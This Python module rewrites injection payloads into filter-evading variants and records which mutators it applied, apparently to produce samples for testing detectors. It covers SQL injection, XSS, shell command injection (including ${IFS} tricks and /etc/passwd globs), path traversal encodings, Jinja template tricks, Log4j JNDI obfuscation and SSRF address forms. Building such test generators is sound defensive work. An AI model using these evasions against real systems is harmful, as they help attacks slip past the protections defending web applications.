"""Other spellings of an attack in the language that it attacks: the parser there reads the same."""
import re


def random_case(text, draw):
    return "".join(draw.choice((c.lower(), c.upper())) if c.isascii() else c for c in text)


def outside_quotes(text, change):
    """Apply to what does not stand within quotes: literals mean what they are."""
    parts = re.split(r"('[^']*'|\"[^\"]*\")", text)
    return "".join(part if i % 2 else change(part) for i, part in enumerate(parts))


# SQL

SQL_WORDS = r"\b(?:union|select|from|where|and|or|order|by|insert|update|delete|drop|table|having|group|into|values|null|like|all)\b"
# The standard's white space, MySQL's and Oracle's, and comments of every kind.
SQL_SPACES = ["\t", "\n", "\r\n", "\x0b", "\x0c", "  ", "/**/", "/*x*/", "/*! */", " /*'*/ ", "/*/**/", "\u00a0"]


def sql_case(text, draw):
    return outside_quotes(text, lambda part: random_case(part, draw))


def sql_spaces(text, draw):
    # A line break would end a comment and begin what stood in it.
    head, mark, tail = text.partition("--")
    return re.sub(" ", lambda _: draw.choice(SQL_SPACES), head) + mark + tail


def sql_versioned(text, draw):
    """MySQL runs what stands in a comment of a version that it has."""
    return re.sub(SQL_WORDS, lambda m: f"/*!{draw.choice(('', '50000', '40101'))}{m[0]}*/" if draw.random() < 0.6 else m[0],
                  text, flags=re.I)


def sql_operators(text, draw):
    text = re.sub(r"(?<= )or(?= )", lambda m: draw.choice((m[0], "||", "xor")), text, flags=re.I)
    return re.sub(r"(?<= )and(?= )", lambda m: draw.choice((m[0], "&&")), text, flags=re.I)


def sql_numbers(text, draw):
    forms = (lambda n: f"{n}.0", lambda n: f"{n}e0", lambda n: f"({n})", lambda n: f"+{n}", lambda n: f"0x{int(n):x}")
    return re.sub(r"(?<![\w.'\"@/*!])\d+(?=\s*=)|(?<==)\s*\d+\b(?!\.)", lambda m: draw.choice(forms)(m[0].strip()), text)


def sql_comment(text, draw):
    return re.sub(r"(?:--[ +-]*|#)$", lambda _: draw.choice(("-- ", "-- -", "--+", "#", "--\t", "/*", "-- x")), text)


def sql_equals(text, draw):
    return re.sub(r"(?<=[\d'])\s*=\s*(?=[\d'])", lambda m: draw.choice((m[0], " like ", " = ", "\t=\t", " <=> ")), text)


# HTML

HTML_SPACES = ["\t", "\n", "\x0c", "\r\n", "  ", " / "]


def html_case(text, draw):
    return re.sub(r"(?<=<)/?[a-z]+|\bon[a-z]+(?=\s*=)|\b(?:src|href|srcdoc|style)(?=\s*=)|javascript(?=:)",
                  lambda m: random_case(m[0], draw), text, flags=re.I)


def html_spaces(text, draw):
    return re.sub(r"(<[a-z]+) ", lambda m: m[1] + draw.choice(HTML_SPACES + ["/"]), text, flags=re.I)


def html_references(text, draw):
    """Within an attribute's value character references are undone before anything reads it."""
    def value(m):
        def one(c):
            form = draw.choice(("&#{};", "&#x{:x};", "&#0000{};"))
            return form.format(ord(c)) if c.isalpha() and draw.random() < 0.3 else c
        return m[1] + m[2] + "".join(one(c) for c in m[3]) + m[2]
    return re.sub(r"(\b(?:on[a-z]+|href|src|action|formaction)\s*=\s*)([\"'])([^\"']*)\2", value, text, flags=re.I)


def html_scheme(text, draw):
    """The URL parser drops tabs and line breaks, and blanks before it (WHATWG URL)."""
    def scheme(m):
        at = draw.randrange(1, len(m[0]))
        return m[0][:at] + draw.choice(("\t", "\n", "&Tab;", "&NewLine;", "&#9;", "&#x0A;")) + m[0][at:]
    return re.sub(r"(?<=[\"'=])javascript:", scheme, text, flags=re.I)


def html_quotes(text, draw):
    def value(m):
        if re.search(r"[\s\"'`=<>]", m[2]):
            return m[0]
        return "=" + draw.choice((f'"{m[2]}"', f"'{m[2]}'", f"{m[2]} ", f" '{m[2]}'"))
    return re.sub(r"=([\"'])([^\"'<>]*)\1", value, text)


def html_breakout(text, draw):
    return draw.choice(('">', "'>", "</title>", "</textarea>", "-->", "", "x")) + text


def script_calls(text, draw):
    """alert(1) in the ways that JavaScript knows."""
    forms = ("window['al'+'ert'](1)", "top['ale'+'rt'](1)", "(alert)(1)", "[1].find(alert)", "self[`alert`](1)", "alert`1`",
             "window.alert(1)", "eval('ale'+'rt(1)')", "\\u0061lert(1)", "Function('alert(1)')()", "setTimeout('alert(1)')")
    return text.replace("alert(1)", draw.choice(forms))


# Shells

SHELL_SPACES = ["${IFS}", "$IFS$9", "\t", "  ", "${IFS%??}"]
SHELL_WORDS = r"\b(?:cat|id|whoami|ls|wget|curl|nc|bash|sh|uname|ping|sleep|python3|rm|passwd)\b"


def shell_spaces(text, draw):
    head, space, tail = text.rpartition(" ")
    return head + draw.choice(SHELL_SPACES) + tail if space and head.strip() else text


def shell_quotes(text, draw):
    def split(m):
        at = draw.randrange(1, len(m[0])) if len(m[0]) > 1 else 1
        return m[0][:at] + draw.choice(("''", '""', "\\", "$@", "${x}")) + m[0][at:]
    return re.sub(SHELL_WORDS, split, text, count=1)


def shell_separators(text, draw):
    return re.sub(r"^(\W?\w*\s*);", lambda m: m[1] + draw.choice((";", "|", "||", "&&", "&", "\n", ";;", "|&")), text)


def shell_globs(text, draw):
    return text.replace("/etc/passwd", draw.choice(("/etc/passw?", "/e?c/p?sswd", "/etc/pass*", "/???/passwd")))


# Paths

def path_separators(text, draw):
    form = draw.choice(("..\\", "..//", "..%2f", "..%5c", "%2e%2e/", "%2e%2e%2f", "....//", "..;/", ".././", "..\\/", "%c0%ae%c0%ae/",
                        "..%c0%af", "..%252f", "%252e%252e/"))
    return text.replace("../", form)


def path_deeper(text, draw):
    return text.replace("../", "../" * draw.randint(1, 4), 1)


def path_end(text, draw):
    return text + draw.choice(("", "%00", "%00.png", "\0.jpg", "/.", "?", "#"))


# Others

def template_spaces(text, draw):
    return re.sub(r"(?<=\{\{)|(?=\}\})", lambda _: draw.choice(("", " ", "  ", "\n")), text)


def template_attributes(text, draw):
    """Jinja reads x.__y__, x['__y__'] and x|attr('__y__') alike, in escapes or in pieces."""
    def one(m):
        name = m[1]
        half = len(name) // 2
        escaped = "".join(f"\\x{ord(c):02x}" for c in name)
        return draw.choice((f"['{name}']", f"|attr('{name}')", f"['{name[:half]}'+'{name[half:]}']",
                            f'|attr("{escaped}")', m[0]))
    return re.sub(r"\.(__\w+__)", one, text)


def lookup_letters(text, draw):
    """Log4j resolves lookups within lookups."""
    forms = ("${{lower:{}}}", "${{upper:{}}}", "${{::-{}}}", "${{env:X:-{}}}", "${{sys:a:-{}}}", "{}")
    return re.sub(r"(?<=\$\{)jndi(?=:)", lambda m: "".join(draw.choice(forms).format(c) for c in m[0]), text)


def address_forms(text, draw):
    """inet_aton takes numbers of every base and with parts left out; URLs take user names."""
    def one(m):
        a, b, c, d = (int(part) for part in m[0].split("."))
        number = a << 24 | b << 16 | c << 8 | d
        return draw.choice((str(number), hex(number), f"0{a:o}.{b}.{c}.{d}", f"{a}.{b}.{(c << 8) + d}", f"[::ffff:{m[0]}]",
                            f"example.com@{m[0]}", f"0x{a:x}.{b}.0x{c:x}.{d}", m[0] + ".nip.io"))
    return re.sub(r"(?<=//)\d+\.\d+\.\d+\.\d+", one, text)


def scheme_case(text, draw):
    return re.sub(r"^[a-z]+(?=:)", lambda m: random_case(m[0], draw), text)


def operator_escapes(text, draw):
    return re.sub(r"\$(?=[a-z])", lambda m: draw.choice(("$", "\\u0024")), text)


def filter_spaces(text, draw):
    return re.sub(r"\)\(", lambda m: draw.choice((")(", ") (", ")  (")), text)


def filter_case(text, draw):
    return re.sub(r"\b[a-z]+(?==)", lambda m: random_case(m[0], draw), text, flags=re.I)


def xpath_spaces(text, draw):
    return re.sub(" ", lambda _: draw.choice((" ", "\t", "\n", "  ")), text)


def entity_spaces(text, draw):
    return re.sub(" ", lambda _: draw.choice((" ", "\n", "\t", "\r\n")), text)


def line_breaks(text, draw):
    return text.replace("\r\n", draw.choice(("\r\n", "\n", "%0d%0a", "%0a", "\u560d\u560a", "\r")))


def cell_start(text, draw):
    return draw.choice(("", "\t", " ", "\r\n", '"', "'")) + text


SPELLINGS = {
    "sqli": [sql_case, sql_spaces, sql_versioned, sql_operators, sql_numbers, sql_comment, sql_equals],
    "xss": [html_case, html_spaces, html_references, html_scheme, html_quotes, html_breakout, script_calls],
    "cmdi": [shell_spaces, shell_quotes, shell_separators, shell_globs],
    "path": [path_separators, path_deeper, path_end],
    "nosql": [operator_escapes],
    "ssti": [template_spaces, template_attributes],
    "jndi": [lookup_letters],
    "ssrf": [address_forms, scheme_case],
    "ldap": [filter_spaces, filter_case],
    "xpath": [xpath_spaces],
    "xxe": [entity_spaces],
    "crlf": [line_breaks],
    "csv": [cell_start],
    "deser": [],
}


def spell(kind, text, draw):
    """One to three of a class's mutators; their names and the text."""
    choices = SPELLINGS[kind]
    names = []
    for mutator in draw.sample(choices, min(len(choices), draw.randint(1, 3))):
        text = mutator(text, draw)
        names.append(mutator.__name__)
    return names, text
